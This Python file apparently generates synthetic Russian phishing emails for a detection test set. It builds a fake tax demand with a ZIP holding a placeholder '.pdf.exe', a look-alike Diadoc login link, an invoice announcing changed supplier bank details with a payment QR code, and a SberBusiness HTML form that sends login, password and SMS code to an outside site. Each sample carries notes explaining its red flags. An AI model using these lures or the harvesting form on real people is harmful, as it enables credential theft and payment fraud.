"""Attack messages, Russian (37-40)."""
import base64

from msgs import msg
from msgs.common import *  # noqa
from lib import qr as Q, ids, archive
from lib.mime import addr, hdr_text, ew, Leaf, Multi
from lib.msg import in_zone, d_std, d_pad, d_postfix, epoch, local
import company


def thebat_mid(m, dom, when):
    return '<%d.%s@%s>' % (m.between(10**9, 2 * 10**9), when.strftime('%Y%m%d%H%M%S'), dom)


@msg('attack', '37', 'ru', 'fns-trebovanie-zip-parol')
def a37(m):
    when = local('RU', 2026, 11, 16, 10, 11, 22)
    pw = '4471'
    ph = ('Inert placeholder for "Требование о представлении пояснений № 17-26-4471.pdf.exe".\n'
          'In the real campaign this is a .NET loader (e.g. a backdoor or stealer). No code here.\n').encode('utf-8')
    zipb = archive.make_zip_encrypted([('Требование о представлении пояснений № 17-26-4471.pdf.exe', ph, (2026, 11, 16, 9, 58, 4))], pw, m.rng)
    text = """Уважаемый налогоплательщик!

В соответствии со статьей 88 Налогового кодекса Российской Федерации Межрайонная ИФНС России № 46 по г. Москве в ходе камеральной налоговой проверки налоговой декларации по НДС за 3 квартал 2026 года выявила расхождения между сведениями об операциях, содержащимися в декларации, и сведениями, представленными вашими контрагентами.

Вам необходимо в течение пяти рабочих дней представить пояснения либо внести исправления в налоговую декларацию. Текст требования с перечнем расхождений направлен во вложении.

В целях защиты персональных данных архив защищён паролем: %s

Непредставление пояснений в установленный срок влечёт ответственность по статье 129.1 НК РФ и может послужить основанием для приостановления операций по счетам.

С уважением,
Отдел камеральных проверок № 3
Межрайонная ИФНС России № 46 по г. Москве
Тел.: 8 (495) 400-06-46""" % pw
    tp = B.text_part(text, 'plain', 'windows-1251', '8bit', quote=False)
    att = B.attachment(zipb, 'application/x-zip-compressed', 'Требование_ФНС_№17-26-4471.zip', 'rfc2231', charset='windows-1251')
    bnd = '----------%s' % m.hex(13, True)
    body = Multi([('Content-Type', 'multipart/mixed; boundary="%s"' % bnd)], [tp, att], bnd)
    host = 'server%d.hosting.reg.ru' % m.between(100, 299)
    ip = '31.31.%d.%d' % (m.between(196, 199), m.between(2, 250))
    snd = 'trebovanie@nalog-mifns46.ru'
    t1 = m.later(when, 0, 2)
    m.connect(host, host, ip, snd, 'dmitry.volkov@example.com', m.later(t1, 1, 3))
    m.dmarc = ('pass', 'none', 'nalog-mifns46.ru')
    h = []
    h.append(('DKIM-Signature', m.dkim('nalog-mifns46.ru', 'mail', 'Content-Type:MIME-Version:Message-ID:Subject:To:From:Date', t=epoch(t1))))
    h.append(('Received', 'from [%s] (port=%d helo=[192.168.0.%d])\n\tby %s with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.97.1)\n\t(envelope-from <%s>)\n\tid %s-%s-%s\n\tfor dmitry.volkov@example.com;\n\t%s' % (
        '5.188.%d.%d' % (m.between(1, 250), m.between(1, 250)), m.between(40000, 65000), m.between(2, 99), host, snd,
        '1' + m.alnum(5), '0000000' + m.alnum(4), m.alnum(4), d_pad(t1))))
    h.append(('Date', d_std(when)))
    h.append(('From', '%s <%s>' % (hdr_text('Межрайонная ИФНС России № 46 по г. Москве', 'windows-1251', 'B'), snd)))
    h.append(('X-Mailer', 'The Bat! (v10.5.3) Professional'))
    h.append(('Reply-To', '%s <%s>' % (hdr_text('Межрайонная ИФНС России № 46 по г. Москве', 'windows-1251', 'B'), snd)))
    h.append(('Organization', hdr_text('МИФНС № 46', 'windows-1251', 'B')))
    h.append(('Message-ID', thebat_mid(m, 'nalog-mifns46.ru', when)))
    h.append(('To', 'dmitry.volkov@example.com'))
    h.append(('Subject', hdr_text('Требование о представлении пояснений № 17-26/4471 (НДС 3 кв. 2026)', 'windows-1251', 'B')))
    h.append(('MIME-Version', '1.0'))
    h.append(('@MIME', None))
    m.headers = h
    m.body = body
    m.meta['passwords'] = [pw]
    m.facts['phone'] = ['8 (495) 400-06-46']
    m.meta.update(
        what='Fake Federal Tax Service (ФНС) demand for explanations on the Q3 VAT return with a password-protected ZIP containing "Требование ... .pdf.exe" (inert placeholder), password in the body.',
        why='ФНС sends demands through the accredited EDI operator (ТКС, e.g. Контур.Экстерн), never as e-mail attachments from nalog-mifns46.ru on shared hosting; double extension .pdf.exe; password to evade scanning; threat of account freezing.')


@msg('attack', '38', 'ru', 'diadok-dokument-lookalike-koi8')
def a38(m):
    when = local('RU', 2026, 12, 7, 9, 2, 51)
    url = 'https://diadoc-kontur.ru/Auth/Login?ReturnUrl=%%2FDocuments%%2F%s' % m.guid()
    text = """Диадок

Вам поступил новый документ на подпись

Отправитель: ООО "Светотехника-Про", ИНН 7729461834
Получатель: ООО "Экзампл Лайв Рус"
Документ: Универсальный передаточный документ N 1248 от 04.12.2026
Сумма: 1 186 200,00 руб., в т.ч. НДС

Документ ожидает подписания. Чтобы просмотреть и подписать документ, войдите в Диадок:
%s

Если документ не будет подписан в течение 3 рабочих дней, контрагент может отозвать его.

--
С уважением, команда Диадока
СКБ Контур
Это письмо отправлено автоматически, отвечать на него не нужно.""" % url
    paras = text.split('\n\n')
    html = brand_html('Вам поступил новый документ на подпись', [paras[2], paras[3].split('\n')[0], paras[4]], color='#2a7ae2', brand='Диадок',
                      button=('Перейти к документу', url), footer=['С уважением, команда Диадока\nСКБ Контур\nЭто письмо отправлено автоматически, отвечать на него не нужно.'],
                      lang='ru', charset='koi8-r')
    tp = B.text_part(text, 'plain', 'koi8-r', 'quoted-printable')
    hp = B.html_part(html, 'koi8-r', 'quoted-printable')
    b1 = '==' + m.hex(20) + '=='
    body = Multi([('Content-Type', 'multipart/alternative; boundary="%s"' % b1)], [tp, hp], b1)
    host = 'mail.diadoc-kontur.ru'
    ip = '45.144.%d.%d' % (m.between(28, 31), m.between(2, 250))
    t1 = m.later(when, 0, 2)
    m.connect(host, host, ip, 'noreply@diadoc-kontur.ru', 'olga.smirnova@example.com', m.later(t1, 1, 3))
    m.dmarc = ('pass', 'none', 'diadoc-kontur.ru')
    h = []
    h.append(('DKIM-Signature', m.dkim('diadoc-kontur.ru', 'dkim', 'Date:From:To:Subject:MIME-Version:Content-Type:Message-ID', t=epoch(t1))))
    h.append(P.postfix_rcv(m, 'localhost', 'localhost', '127.0.0.1', host, t1, 'olga.smirnova@example.com', proto='ESMTP', tls=None))
    h.append(('Date', d_std(when)))
    h.append(('From', '%s <noreply@diadoc-kontur.ru>' % hdr_text('Диадок', 'koi8-r', 'B')))
    h.append(('To', 'olga.smirnova@example.com'))
    h.append(('Subject', hdr_text('Новый документ на подпись от ООО "Светотехника-Про"', 'koi8-r', 'B')))
    h.append(('Message-ID', '<%s@diadoc-kontur.ru>' % m.guid()))
    h.append(('MIME-Version', '1.0'))
    h.append(('@MIME', None))
    h.append(('X-Mailer', 'diadoc-notify/3.2'))
    m.headers = h
    m.body = body
    m.meta.update(
        what='Fake Диадок (Kontur EDI) notification: a 1.19 million RUB УПД from the real lighting supplier awaits signature; the link leads to a look-alike Kontur login that harvests credentials / certificate PIN.',
        why='Domain diadoc-kontur.ru instead of diadoc.kontur.ru, own VPS mail server; real Diadoc mails come from the kontur.ru infrastructure; 3-day pressure; amount and counterparty chosen from the victim\'s real supplier base.')


@msg('attack', '39', 'ru', 'svetotekhnika-lookalike-smena-rekvizitov-qr')
def a39(m):
    when = local('RU', 2026, 12, 2, 15, 40, 17)
    bik = '044525974'
    corr = '30101810145250000974'
    acc = ids.ru_account(bik, '40702810?10001843276')
    inn = ids.ru_inn10('772946183')
    amount = '846720.00'
    purpose = 'Оплата по счету № 1248 от 02.12.2026 за аренду светового оборудования, в т.ч. НДС 22% 152687.21'
    payload = ('ST00012|Name=ООО «Светотехника-Про»|PersonalAcc=%s|BankName=АО «ТБанк»|BIC=%s|CorrespAcc=%s|PayeeINN=%s|KPP=772901001|'
               'Purpose=%s|Sum=%d' % (acc, bik, corr, inn, purpose, 84672000))
    mat, _, _ = Q.encode(payload)
    m.qr_expect.append(payload)
    pdf = doc_pdf(m, '1С:Предприятие 8.3', when, 'ООО «Светотехника-Про»',
                  ['109316, г. Москва, Волгоградский пр-т, д. 42, корп. 5 · ИНН %s · КПП 772901001' % inn], (200, 120, 0),
                  ['Покупатель: ООО «Экзампл Лайв Рус»', 'ИНН 7703912846, КПП 770301001', '125009, г. Москва, ул. Большая Дмитровка, д. 32, стр. 1'],
                  [('Счёт №', '1248'), ('от', '02.12.2026'), ('Оплатить до', '07.12.2026')],
                  'Счёт на оплату № 1248 от 02.12.2026',
                  ['Банк получателя: АО «ТБанк», БИК %s, к/с %s' % (bik, corr),
                   'Получатель: ООО «Светотехника-Про», ИНН %s, КПП 772901001, р/с %s' % (inn, acc)],
                  table=(['№', 'Товары (работы, услуги)', 'Кол-во', 'Цена', 'Сумма'], [25, 250, 55, 75, 78], ['l', 'l', 'r', 'r', 'r'],
                         [['1', 'Аренда светового оборудования, концерт 12-13.12.2026, ВТБ Арена', '1', '694 032,79', '694 032,79']]),
                  totals=[('Итого без НДС:', '694 032,79', False), ('НДС 22%:', '152 687,21', False), ('Всего к оплате:', '846 720,00', True)],
                  after=['Внимание! Изменились банковские реквизиты. Оплата по старым реквизитам (ПАО Сбербанк) не принимается.'],
                  qr=(mat, payload), qr_caption=['QR-код для оплаты'],
                  sign=['Генеральный директор ____________ Кузнецов А. В.', 'Главный бухгалтер ____________ Орлова Н. С.'],
                  footer=[['ООО «Светотехника-Про»', 'svetotekhnika-pro.ru']], doc_title='Счет 1248')
    body_html = ('<div>Добрый день, Дмитрий!</div><div>&nbsp;</div>'
                 '<div>Направляю счёт № 1248 от 02.12.2026 за аренду света на концерты 12-13 декабря.</div><div>&nbsp;</div>'
                 '<div>Обратите, пожалуйста, внимание: с 1 декабря у нас изменились банковские реквизиты &mdash; расчётный счёт в Сбербанке закрывается, '
                 'оплату нужно производить только на новый счёт в АО &laquo;ТБанк&raquo; (реквизиты и QR-код для оплаты в счёте). '
                 'Письмо о смене реквизитов за подписью генерального директора пришлю оригиналом с документами.</div><div>&nbsp;</div>'
                 '<div>Просим оплатить до 07.12, чтобы мы успели отгрузить оборудование.</div><div>&nbsp;</div>'
                 '<div>--&nbsp;</div><div>С уважением,</div><div>Андрей Кузнецов</div><div>ООО &laquo;Светотехника-Про&raquo;</div>'
                 '<div>+7 (495) 182-40-77</div>')
    hp = Leaf([('Content-Transfer-Encoding', '8bit'), ('Content-Type', 'text/html; charset=utf-8')],
              ('<html><body>%s</body></html>\n' % body_html.replace('</div>', '</div>\n')).encode('utf-8'), '8bit')
    att = B.attachment(pdf, 'application/pdf', 'Счет №1248 от 02.12.2026.pdf', 'plain', charset='utf-8', enc='B')
    bnd = '----==--bound.%d.%s.yandex.net' % (m.between(100000, 999999), m.pick(['myt5-0a1b2c3d4e5f', 'vla3-1f2e3d4c5b6a', 'sas1-9a8b7c6d5e4f']))
    body = Multi([('Content-Type', 'multipart/mixed; boundary="%s"' % bnd)], [hp, att], bnd)
    n = m.between(100, 999)
    host = 'forward%da.mail.yandex.net' % (n % 300)
    ip = '178.154.239.%d' % m.between(70, 220)
    t1 = m.later(when, 1, 2)
    snd = ('Андрей Кузнецов', 'a.kuznetsov@svetotehnika-pro.ru')
    m.connect(host, host, ip, snd[1], 'dmitry.volkov@example.com', m.later(t1, 0, 2))
    m.dmarc = ('pass', 'none', 'svetotehnika-pro.ru')
    h = []
    h.append(('Received', 'from mail-nwsmtp-smtp-production-main-%d.%s.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-%d.%s.yp-c.yandex.net [IPv6:2a02:6b8:c0c:%s:0:640:%s:0])\n\tby %s (Yandex) with ESMTPS id %s\n\tfor <dmitry.volkov@example.com>; %s' % (
        n, 'myt', n, 'myt', m.hex(4), m.hex(4), host, m.alnum(12), d_std(t1).replace('+0300', '+0300'))))
    h.append(('Received', 'by mail-nwsmtp-smtp-production-main-%d.myt.yp-c.yandex.net (smtp/Yandex) with ESMTPSA id %s-%s;\n\t%s' % (
        n, m.alnum(10), m.alnum(8), d_std(when))))
    h.append(('X-Yandex-Fwd', '1'))
    h.append(('DKIM-Signature', m.dkim('svetotehnika-pro.ru', 'mail', 'From:To:Subject:Message-Id:Date', t=epoch(when))))
    h.append(('From', addr(snd[0], snd[1], 'utf-8', 'B')))
    h.append(('To', 'dmitry.volkov@example.com'))
    h.append(('Subject', hdr_text('Счёт № 1248 от 02.12.2026 / изменение реквизитов', 'utf-8', 'B')))
    h.append(('MIME-Version', '1.0'))
    h.append(('X-Mailer', 'Yamail [ http://yandex.ru ] 5.0'))
    h.append(('Date', d_std(when)))
    h.append(('Message-Id', '<%d%d@mail.yandex.ru>' % (m.between(10**5, 10**6), epoch(when))))
    h.append(('@MIME', None))
    m.headers = h
    m.body = body
    m.facts['phone'] = ['+7 (495) 182-40-77']
    m.facts['account'] = ['р/с %s, БИК %s, к/с %s (АО «ТБанк»)' % (acc, bik, corr)]
    m.meta.update(
        what='Supplier bank-detail change from a look-alike domain (svetotehnika-pro.ru instead of svetotekhnika-pro.ru) on Yandex 360: invoice for 846,720 RUB with a GOST payment QR code pointing to a new T-Bank account.',
        why='The account on file is at Sberbank; new account announced only inside an invoice, "original letter will follow"; one-letter domain change on the same mail provider as the real supplier; checksum-valid account and QR make the payment one scan away.')


@msg('attack', '40', 'ru', 'sberbiznes-sertifikat-html-vlozhenie')
def a40(m):
    when = local('RU', 2026, 10, 29, 16, 27, 3)
    post = 'https://sbbol-sertifikat.ru-online.site/auth/login'
    htmlatt = ('<!DOCTYPE html>\n<html lang="ru"><head><meta charset="utf-8"><title>СберБизнес - продление сертификата</title>\n'
               '<style>body{font-family:Arial,sans-serif;background:#f2f4f7}.w{max-width:400px;margin:60px auto;background:#fff;padding:30px;border-radius:8px}'
               'h2{color:#21a038}input{width:100%;padding:10px;margin:6px 0 14px 0;border:1px solid #ccc;border-radius:4px;box-sizing:border-box}'
               'button{width:100%;padding:12px;background:#21a038;color:#fff;border:0;border-radius:4px;font-size:15px}</style></head>\n'
               '<body><div class="w"><h2>СберБизнес</h2><p>Продление сертификата электронной подписи</p>\n'
               '<form action="@POST@" method="post">\n<input name="login" placeholder="Логин">\n'
               '<input name="password" type="password" placeholder="Пароль">\n<input name="sms" placeholder="Код из СМС">\n'
               '<button type="submit">Продлить сертификат</button>\n</form></div></body></html>\n').replace('@POST@', post)
    text = """Уважаемый клиент!

Срок действия сертификата электронной подписи уполномоченного лица Вашей организации в системе СберБизнес истекает 31.10.2026.

После окончания срока действия подписание платёжных поручений будет недоступно. Для продления сертификата откройте вложенную форму и подтвердите данные учётной записи.

Продление выполняется бесплатно и занимает не более 3 минут.

С уважением,
Служба поддержки СберБизнес"""
    tp = B.text_part(text, 'plain', 'utf-8', 'base64')
    att = B.attachment(htmlatt.encode('utf-8'), 'text/html', 'СберБизнес_продление_сертификата.html', 'rfc2231', cte='base64')
    bnd = 'b1_' + m.hex(32)
    body = Multi([('Content-Type', 'multipart/mixed;\n boundary="%s"' % bnd)], [tp, att], bnd,
                 'This is a multi-part message in MIME format.')
    host = 'vh%d.timeweb.ru' % m.between(100, 499)
    ip = '92.53.%d.%d' % (m.between(96, 127), m.between(2, 250))
    envf = 'info@stroymontazh-service.ru'
    t1 = m.later(when, 0, 2)
    m.connect(host, host, ip, envf, 'olga.smirnova@example.com', m.later(t1, 1, 3))
    m.dmarc = ('none', None, 'sber-biznes.info')
    m.spf = 'pass'
    h = []
    h.append(('Received', 'from localhost (localhost [127.0.0.1])\n\tby %s (Postfix) with ESMTPA id %s\n\tfor <olga.smirnova@example.com>; %s' % (
        host, m.short_qid(), d_postfix(t1))))
    h.append(('Date', d_std(when)))
    h.append(('To', 'olga.smirnova@example.com'))
    h.append(('From', '%s <support@sber-biznes.info>' % hdr_text('СберБизнес', 'utf-8', 'B')))
    h.append(('Subject', hdr_text('Истекает срок действия сертификата электронной подписи', 'utf-8', 'B')))
    h.append(('Message-ID', '<%s@stroymontazh-service.ru>' % m.alnum(43)))
    h.append(('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'))
    h.append(('MIME-Version', '1.0'))
    h.append(('@MIME', None))
    m.headers = h
    m.body = body
    m.meta.update(
        what='Business-banking phishing with an HTML attachment: "СберБизнес" says the signing certificate expires on 31.10 and the attached local form (login, password, SMS code) must be submitted to renew it.',
        why='PHPMailer from a hacked construction-company site on Timeweb (envelope stroymontazh-service.ru), From domain sber-biznes.info; banks renew certificates inside the online bank, never via HTML attachments; form posts to ru-online.site.')
